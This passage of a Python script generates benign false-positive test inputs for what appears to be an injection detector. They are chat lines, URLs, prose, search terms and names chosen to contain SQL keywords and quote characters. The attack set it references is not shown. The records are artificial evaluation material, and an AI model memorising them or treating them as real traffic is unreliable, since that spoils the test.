    "re: the open rowset question, we don't use linked servers",
    "having said that, the design is solid",
    "between you and me, the demo went great",
    "like the new font? feedback welcome",
    "the Regexp Club meets on Tuesdays",
    "that's a div inside a div inside a div",
    "the xor trick for swapping is cute but unreadable",
    "not null constraint failed on users.email, fixing the seed",
    "is null check missing in the serializer",
    "in the list: apples, pears, and (maybe) plums",
    "the tautology in that sentence made me laugh",
    "The goto statement is considered harmful",
    "we went to the 'Drop Table' bar after work",
    "Little Bobby Tables strikes again (the xkcd)",
    "the dual monitors arrived",
    "the jsonb column is indexed with GIN",
    "the ->> operator returns text in postgres",
    "the new Oracle license quote came in",
    "the stored procedure for payroll is documented",
    "she wrote 'call me maybe' in the status",
    "I'm OK with either option, your call",
    "the case of the missing stapler is solved",
    "the when and then of the release: when QA signs off, then we ship",
    "the end of the quarter is near",
    "Order 66 jokes in the #random channel again",
    "shutdown -h now is not the way to end a meeting",
    "the 1=1 placeholder in that query builder is harmless, it's just a template",
    "the hex dump shows 0x00 padding",
    "the charset switch on the website is broken for Japanese",
    "our truncate text helper cuts at 120 chars",
    "the DELETE endpoint returns 204",
    "the INSERT statement in the seed file needs a comma",
    "the doc says: SELECT name FROM users WHERE id = ? with a bound parameter",
]

PUBLIC_URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html",
    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/statements/merge-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/regex/",
    "https://www.sqlite.org/schematab.html",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/sqlrf/CASE-Expressions.html",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://en.wikipedia.org/wiki/Union_(set_theory)",
    "https://en.wikipedia.org/wiki/Hexadecimal",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://xkcd.com/327/",
    "https://github.com/acme/db-tools/blob/main/migrations/0042_add_index.sql",
    "https://example.com/search?q=select+chairs&sort=price",
    "https://shop.example.org/products?category=tables&order=asc",
    "https://news.example.com/2024/05/union-strike-ends",
    "https://blog.example.com/posts/sleep-better-tips",
    "https://www.example.com/benchmark-report-2024.pdf",
    "https://maps.example.com/?q=1+Union+Square",
    "https://docs.example.com/api#delete-user",
    "https://docs.example.com/guide#order-by",
    "https://example.org/recipes/cast-iron-skillet",
    "https://stackoverflow.com/questions/tagged/sql",
    "https://www.w3schools.com/sql/sql_having.asp",
    "https://www.w3schools.com/sql/sql_case.asp",
    "https://example.com/colors?hex=1a73e8",
    "https://en.wikipedia.org/wiki/Scientific_notation",
    "https://example.com/events/match-day?team=blue",
    "https://calendar.example.com/?view=week&date=2024-06-01",
    "https://jobs.example.com/dba-senior?ref=slack",
    "https://example.com/users/o'brien",
    "https://cdn.example.net/fonts/roboto.css?v=3",
    "https://www.markdownguide.org/basic-syntax/#code",
    "https://docs.python.org/3/library/sqlite3.html",
    "https://redis.io/docs/latest/commands/sort/",
    "https://example.org/wiki/Drop_shipping",
    "https://travel.example.com/delays?line=8",
    "https://example.com/shutdown-notice-2025",
    "https://example.com/merge-requests/1234",
    "https://example.com/files/report%20final.xlsx",
    "https://example.com/p/1e10-things",
    "https://example.com/tags/%23release",
]

PROSE = [
    "Please select the invoices for March and union them with April's",
    "O'Connor, Siobhan",
    "D'Angelo Rossi",
    "The union meeting is on Tuesday at 10:00",
    "customer says the sleep mode drains the battery",
    "benchmark report for Q2",
    "order by date, newest first",
    "delete account request from user 4821",
    "drop-off address changed to 12 High St",
    "insert coin to continue",
    "update billing address",
    "Match against the bank statement before closing",
    "merge duplicate accounts for Smith",
    "execute the refund for order #4412",
    "case #5521 - login issue",
    "char limit exceeded in bio",
    "the shutdown of service on 1 June",
    "waiting for delay confirmation from the courier",
    "Mr. & Mrs. O'Neil",
    "\"Best regards\" signature is missing",
    "price 5 < 10 but > 3",
    "Rock 'n' Roll Records Ltd.",
    "Apt #4, 221B Baker St",
    "Suite #200, 1 Market St",
    "50% off -- today only",
    "-- forwarded message --",
    "follow-up: 2nd call (see notes)",
    "item 1, item 2, and item 3",
    "yes/no/maybe",
    "email me: first.last@example.com",
    "having trouble logging in since Monday",
    "Between 9 and 5 on weekdays",
    "like button not working on mobile",
    "is null a valid answer on the form?",
    "sum of 2 + 2 = 4, the kid's homework",
    "true story: the cat sat on the keyboard",
    "or else we miss the deadline",
    "and then the printer jammed",
    "not in office until 5 June",
    "Exists in the CRM but not in billing",
    "limit one per customer",
    "group by region please",
    "the table is wobbly, needs a new leg",
    "user can't find the export button",
    "version 3 of the contract attached",
    "database of suppliers, updated",
    "char siu bao for lunch?",
    "cast list for the holiday play",
    "floor 3 kitchen is closed",
    "length: 2.5 m, width: 1 m",
    "hex key set missing from the toolbox",
    "color code #ff8800 for the banner",
    "color code #000 for text",
    "0x12 ticket from the old system",
    "1e6 views on the launch video!",
    "6.02e23 is Avogadro's number",
    "the tick-box on the form is too small",
    "Rene\u00b4s order (with accent)",
    "`backtick` in the product name?",
    "json export of the survey",
    "split payment between two cards",
    "admin can't reset the user's PIN",
    "login bypass? No, the user used the magic link",
    "the 'Other' option is missing",
    "Sales & Marketing",
    "R&D budget 2025",
    "A/B test results",
    "C# developer wanted",
    "F# and OCaml meetup",
    "100% cotton, size M",
    "3 x 4 = 12",
    "(555) 010-1234",
    "+44 20 7946 0958",
    "ref: INV-2024-00017",
    "P.O. Box 1234",
    "St. John's, Newfoundland",
    "Martha's Vineyard",
    "L'\u00c9cole des Beaux-Arts",
    "the drop table at the fair sold out",
    "select committee on transport",
    "Union Pacific railroad schedule",
    "sleep study results from the clinic",
    "mongo-style query builder question",
    "the sys admin is on vacation",
    "master bedroom, ensuite",
    "temp db issue reported by finance",
    "pg 42, paragraph 3",
    "ALTER EGO, the band",
    "Having a great time, wish you were here",
    "'Where is my order?' asked the customer",
    "\"quoted\" text in the note",
    "semicolon; used correctly",
    "dash -- used for emphasis",
    "slash / used in dates 01/02/2024",
    "star * marks required fields",
    "hash # for the apartment number",
    "at @ sign in the handle",
    "percent % sign in the discount",
    "caret ^ in the formula",
    "pipe | in the CSV header",
    "tilde ~ in the path of the home dir",
    "equals = sign in the equation",
    "less than < and greater than >",
    "brackets [like this]",
    "braces {like this}",
    "parentheses (like this)",
    "the IF function in the spreadsheet returns 0",
    "SUM(A1:A10) in the sheet is wrong",
    "Vlookup fails on the second tab",
]

SEARCHES = [
    "select chair", "union square", "sleep apnea", "benchmark", "drop shipping", "order status", "delete account",
    "insert tabs", "update address", "match report", "merge accounts", "execute order", "case study", "char broil",
    "shutdown notice", "delay refund", "o'brien", "d'arcy", "o'reilly books", "mcdonald's", "rock 'n' roll",
    "version 2", "user guide", "database admin", "sys admin", "master key", "temp workers", "having issues",
    "between jobs", "like new", "is null", "not in stock", "exists", "limit offer", "group booking",
    "table lamp", "floor mat", "cast iron", "length 2m", "hex bolts", "color #ff0000", "0x12", "1e6", "tick box",
    "backtick", "json export", "split bill", "admin", "login help", "password reset", "or", "and", "true",
    "false", "1", "42", "-1", "2147483647", "4294967295 bytes", "100%", "50% off", "a&b", "r&d", "c#", "f#",
    "5 < 10", "x > y", "a = b", "(555)", "[draft]", "{name}", "it's", "don't", "rock'n'roll", "\"exact phrase\"",
    "#hashtag", "@mention", "~home", "^caret", "|pipe|", "sales;marketing", "one--two", "/slash/", "*star*",
    "sleep mode", "waitfor", "pg 12", "mongo", "regex", "$ne", "ne", "gt 5", "where is my order",
    "union jack", "european union", "select all", "order by price", "sort by date", "if then else", "when",
    "end of year", "goto", "declare", "procedure", "function keys", "cursor", "alter ego", "character set",
    "names", "convert pdf", "load file", "dump truck", "outfile", "information", "schema", "catalog",
]

PEOPLE = [
    ("Siobhan O'Connor", "Apt #4, 12 Main St, Dublin"),
    ("D'Angelo Rossi", "Via Roma 1, Milano"),
    ("Mary-Kate O'Neil", "Suite #200, 1 Market St, San Francisco"),
    ("Jean-Luc D'Arcy", "3 rue de l'\u00c9glise, Lyon"),
    ("Sean O'Brien", "221B Baker St, London"),
    ("Ren\u00e9e L'Heureux", "45 Union Ave, Montreal"),
    ("Ng\u0169gi wa Thiong'o", "P.O. Box 1234, Nairobi"),
    ("Anna Select", "7 Select Rd, Leeds"),
    ("Tom Union", "1 Union Square, New York"),
    ("Lisa Drop", "88 Drop Lane, Austin"),
    ("Mark Case", "15 Case St, Boston"),
    ("Julia Match", "9 Match Way, Perth"),
    ("Robert Order", "2 Order Ct, Denver"),
    ("Sam Sleep", "Sleepy Hollow Rd #3, Tarrytown"),
    ("Kim Delay", "10 Delay Blvd, Houston"),
    ("Chris Merge", "Merge House, 4 Canal St"),
    ("Pat Table", "Table Mountain Rd, Cape Town"),
    ("Alex Alter", "5 Alter Platz, Vienna"),
    ("Jo Having", "Having Farm, Devon"),
    ("Max Like", "1 Like St, Sydney"),
    ("Nora Between", "Between Towers #12, Dubai"),
    ("Ivy Exists", "33 Exists Ave, Toronto"),
    ("Uma Limit", "Limit Rd 7, Oslo"),
    ("Ola Group", "Group House, Stockholm"),
    ("Ed Floor", "Floor 3, 100 King St W"),
    ("Ray Cast", "Cast Iron Bldg, 695 Broadway"),
    ("Val Length", "Length Ln, Bristol"),
    ("Hex Consulting Ltd", "Unit #7, Hex Park, Reading"),
    ("Tick Tock Clocks", "12 Clock Tower Sq"),
    ("Json & Co.", "4 Data St, Berlin"),
    ("Split Rock Cafe", "Split Rock Rd, Duluth"),
    ("Admin Services Inc.", "1 Admin Way, Ottawa"),
    ("Rock 'n' Roll Diner", "66 Route 66, Tulsa"),
    ("Ben & Jerry's Fan Club", "Waterbury, VT"),
    ("A&B Logistics", "Dock #9, Port of Rotterdam"),
    ("R&D Labs", "Lab 4, Science Park, Cambridge"),
    ("C# Dev Group", "Room 101, Tech Hub"),
    ("Sales & Marketing", "Floor 2, HQ"),
    ("Mr. & Mrs. Smith", "10 Downing-ish St"),
    ("Zo\u00eb Saldana-Perez", "Calle 5 #12-34, Bogot\u00e1"),
    ("Bj\u00f6rn \u00c5kesson", "Storgatan 1, Malm\u00f6"),
    ("Fran\u00e7ois Mitterrand-Dupont", "1 av. des Champs-\u00c9lys\u00e9es"),
    ("Mar\u00eda Jos\u00e9 Garc\u00eda", "Plaza Mayor 3, 2\u00ba B, Madrid"),
    ("J\u00fcrgen M\u00fcller", "Hauptstr. 5, M\u00fcnchen"),
    ("\u674e\u96f7", "\u5317\u4eac\u5e02\u671d\u9633\u533a"),
    ("\u5c71\u7530\u592a\u90ce", "\u6771\u4eac\u90fd\u6e0b\u8c37\u533a 1-2-3"),
    ("Olu Adeyemi", "Plot 5, Victoria Island, Lagos"),
    ("Priya Nair", "Flat 4B, MG Road, Bengaluru"),
    ("Dr. Amy Wong, PhD", "Dept. of CS, Room 3.14"),
    ("John Smith Jr.", "1234 Elm St #5, Springfield"),
    ("Kate O'Mara", "O'Mara's Pub, Galway"),
    ("Liam O'Sullivan-Byrne", "The Old Rectory, Kerry"),
    ("Emma D'Souza", "House 12, Bandra (West), Mumbai"),
    ("Noah L'Estrange", "Flat 1/2, 7 Byres Rd, Glasgow"),
    ("Olivia N'Diaye", "Rue 10 x 15, Dakar"),
    ("Ava Sleepwell", "Sleepwell Motel, Room 4"),
    ("Isla Benchmark", "Benchmark Rd 1, Singapore"),
    ("Mia Union-Jones", "Union Street 50, Aberdeen"),
    ("Leo Select-Harris", "Select Homes, Plot 9"),
    ("Zara Orderly", "Orderly Ave 3, Auckland"),
    ("Finn Delete", "Delete Dr 8, Dallas"),
    ("Ruby Insert", "Insert Lane 2, Cork"),
    ("Hugo Update", "Update Rd, Nice"),
    ("Ella Create", "Create Studios, Shoreditch"),
    ("Theo Waitfor", "12 Wait Ave, Reno"),
    ("Nina Shutdown", "Shutdown Rd, Ely"),
    ("Omar Execute", "Execute Blvd, Cairo"),
    ("Lola Mongo", "Mongo Plaza, Lima"),
    ("Ivan Regex", "Regex Str. 1, Kyiv"),
    ("Sara Char", "Char Rd, Delhi"),
    ("Paul Convert", "Convert St, Derby"),
    ("Tara Declare", "Declare Ct, Bath"),
    ("Vic Procedure", "Procedure Hall, Oxford"),
    ("Gus Function", "Function Rd, Turin"),
    ("Amy Cursor", "Cursor Way, Porto"),
    ("Ben Hex", "Hex Hill 0x1, Bern"),
    ("Cara Tick", "Tick Rd, Split"),
    ("Dan Backtick", "Back St, Bath"),
    ("Eve Scientific", "1e3 Science Rd, Pune"),
    ("Fay Split", "Split Ave, Zagreb"),
    ("Gil Bypass", "Bypass Rd, Leicester"),
    ("Hal True", "True North Rd, Winnipeg"),
    ("Ida False", "False Bay Rd, Simon's Town"),
    ("Jan Null", "Null Island (0, 0)"),
    ("Kai Limit", "Speed Limit Ave 55, Ohio"),
    ("Lea Or", "Or Yehuda, Israel"),
    ("Mo And", "And Rd, Andorra la Vella"),
    ("Ned Not", "Not Street 1, Nottingham"),
    ("Oz Xor", "Xor Ln, Xanten"),
    ("Pia Div", "Div Sq, Divonne"),
    ("Quin Like", "Like Rd, Lichfield"),
    ("Rae Rlike", "Rlike Rd, Rye"),
    ("Sol Sounds", "Sounds Ln, Soundview"),
    ("Ty Dual", "Dual Carriageway A1, Stamford"),
    ("Una Master", "Master's Lodge, Trinity College"),
    ("Vera Temp", "Temp Rd, Tempe"),
    ("Wes Catalog", "Catalog Ave, Carlisle"),
    ("Xena Schema", "Schema Rd, Sch\u00f6nefeld"),
    ("Yuri Info", "Info Park, Kochi"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    searches: list[dict[str, Any]] = []
    for i, term in enumerate(SEARCHES):
        searches.append(_get(_query("/api/users", [("q", term), ("page", str(1 + i % 3))])))
        searches.append(_json("/api/users/search", {"query": term, "limit": 20}))
    n = yield from numbered(searches, f"{NAME}-search", n, "mixed")
    people = [_json("/api/users", {"name": name, "address": addr, "company": "Acme"}) for name, addr in PEOPLE]
    yield from numbered(people, f"{NAME}-profile", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
